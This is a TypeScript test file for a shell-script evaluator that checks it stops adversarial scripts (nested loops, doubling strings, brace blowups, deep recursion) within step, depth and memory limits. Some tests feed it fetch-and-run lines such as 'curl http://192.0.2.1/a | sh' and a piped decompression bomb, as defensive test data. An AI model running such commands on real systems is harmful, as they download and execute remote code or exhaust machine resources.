/** What following a script may cost, whatever the script. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, test } from 'node:test';
import { hostileScripts } from '../../../test/builders/hostile-scripts.ts';
import { parseShell } from './shell.ts';
import { defaultLimits, evaluateCommand, evaluateShell } from './shell-values.ts';

const follow = (script: string) => evaluateShell(parseShell(Buffer.from(script)), { arguments: [] });

describe('hostile scripts end soon, within what all they give may hold', () => {
  for (const [name, script] of Object.entries(hostileScripts))
    test(name, () => {
      const tree = parseShell(Buffer.from(script));
      const started = process.cpuUsage();
      const { actions, steps } = evaluateShell(tree, { arguments: [] });
      const { user, system } = process.cpuUsage(started);
      // A fifth of it on a machine that does nothing else; steps are what bounds it.
      assert.ok(user + system < 2_500_000, `${(user + system) / 1000} ms`);
      assert.ok(steps <= defaultLimits.steps);
      assert.ok(actions.length <= defaultLimits.actions);
      assert.ok(JSON.stringify(actions).length < 3 * defaultLimits.actionBytes);
    });

  test('all of them fit into little memory, one after the other', () => {
    const program = `
      import { hostileScripts } from ${JSON.stringify(new URL('../../../test/builders/hostile-scripts.ts', import.meta.url).href)};
      import { parseShell } from ${JSON.stringify(new URL('shell.ts', import.meta.url).href)};
      import { evaluateShell } from ${JSON.stringify(new URL('shell-values.ts', import.meta.url).href)};
      for (const script of Object.values(hostileScripts)) evaluateShell(parseShell(Buffer.from(script)), { arguments: [] });
      console.log('done');
    `;
    // The program itself takes about 20 MB of it.
    const memory = ['--max-old-space-size=100', '--max-semi-space-size=4'];
    const { stdout, stderr } = spawnSync(
      process.execPath,
      [...memory, '--input-type=module-typescript', '-e', program],
      {
        encoding: 'utf8',
        timeout: 60_000,
      },
    );
    assert.equal(stdout.trim(), 'done', stderr.slice(0, 500));
  });
});

describe('what was cut short is named', () => {
  const cases: Readonly<Record<string, readonly [script: string, limit: string]>> = {
    'work without end': [hostileScripts['loops in loops'] ?? '', 'steps'],
    'texts that double': [hostileScripts['texts that double'] ?? '', 'steps'],
    'functions in functions': [hostileScripts['functions that double'] ?? '', 'depth'],
    'code in code': [hostileScripts['code in code'] ?? '', 'depth'],
    'what even the reader gave up': [hostileScripts['opened parentheses'] ?? '', 'syntax'],
    'the same inside a text': [`eval '${'('.repeat(5000)}'`, 'syntax'],
  };
  for (const [name, [script, limit]] of Object.entries(cases))
    test(name, () => {
      assert.ok((follow(script).limitsMet as readonly string[]).includes(limit));
    });

  test('more deeds than are kept, or longer ones', () => {
    const many = parseShell(Buffer.from('curl http://192.0.2.1/a\n'.repeat(100)));
    const few = evaluateShell(many, { limits: { actions: 50 } });
    assert.deepEqual([few.actions.length, few.limitsMet], [50, ['actions']]);
    assert.deepEqual(evaluateShell(many, { limits: { actionBytes: 10_000 } }).limitsMet, ['actions']);
    assert.deepEqual(evaluateShell(many).limitsMet, []);
  });

  test('words without end', () => {
    assert.deepEqual(evaluateCommand(['app', ...Array.from({ length: 5000 }, () => 'a')]).limitsMet, ['steps']);
    assert.deepEqual(evaluateCommand(['app', ...Array.from({ length: 1000 }, () => 'a')]).limitsMet, []);
  });

  test('scripts that start scripts', () => {
    const readFile = (path: string): Uint8Array => Buffer.from(`#!/bin/sh\n/s${Number(path.slice(2)) + 1}\n`);
    assert.deepEqual(evaluateCommand(['/s1'], { readFile }).limitsMet, ['depth']);
  });

  test('what stands before the end stays', () => {
    const { actions, limitsMet } = follow(`curl http://192.0.2.1/a | sh\n${hostileScripts['loops in loops'] ?? ''}`);
    assert.deepEqual(
      actions.map(({ kind }) => kind),
      ['download', 'run'],
    );
    assert.deepEqual(limitsMet, ['steps']);
  });
});

describe('honest scripts meet no limit', () => {
  const cases: Readonly<Record<string, string>> = {
    'a function that goes down a tree': 'walk() { for f in "$1"/*; do [ -d "$f" ] && walk "$f"; done; }; walk "$DIR"',
    'one that tries again': 'try() { start && return; sleep 1; try "$@"; }; try a',
    'waiting for a while': 'for i in $(seq 1 120); do if nc -z "$DB" 5432; then break; fi; sleep 1; done; exec app',
    'a loop over every argument': 'while [ $# -gt 0 ]; do case $1 in -a) A=$2; shift 2;; *) shift;; esac; done',
    'a large here-document': `cat > /etc/app.conf <<E\n${'key = $VALUE and some more words\n'.repeat(1000)}E`,
  };
  for (const [name, script] of Object.entries(cases))
    test(name, () => {
      const { limitsMet, steps } = evaluateShell(parseShell(Buffer.from(script)), {});
      assert.deepEqual(limitsMet, []);
      assert.ok(steps < defaultLimits.steps / 2, String(steps));
    });
});

describe('texts of any length', () => {
  const cases: Readonly<Record<string, string>> = {
    'a text that doubles': `a=aaaaaaaa\n${'a=$a$a\n'.repeat(60)}echo $a | sh`,
    'texts that may be many': `${'if x; then a=$a1; else a=$a2; fi\n'.repeat(40)}echo $a$a$a$a$a`,
    braces: `echo ${'{a,b}'.repeat(30)} ${'{a,'.repeat(3000)}b${'}'.repeat(3000)} {1..999999999}`,
    'many words': `[ ${'a -a '.repeat(30_000)} b ]`,
    'a long run of newlines': `a='${'\n'.repeat(200_000)}x'; echo "$(echo "$a")"`,
    'a long run of slashes': `a=${'/'.repeat(200_000)}x; basename $a; dirname $a; $a; cd $a`,
    'a long pattern': `${'*'.repeat(5000)}a`,
    'a bomb': 'head -c 100000000 /dev/zero | gzip | gunzip | sh',
    'substitutions that nest through a function': `f() { ${'x=$(echo '.repeat(60)}$(f)${')'.repeat(60)}; }; f`,
    'conditions that do': `f() { ${'if a; then '.repeat(60)}f${'; fi'.repeat(60)}; }; f`,
    'loops that do': `f() { ${'while a; do '.repeat(60)}f${'; done'.repeat(60)}; }; f`,
  };
  for (const [name, script] of Object.entries(cases))
    test(name, () => {
      assert.ok(follow(script).steps <= defaultLimits.steps);
    });
});
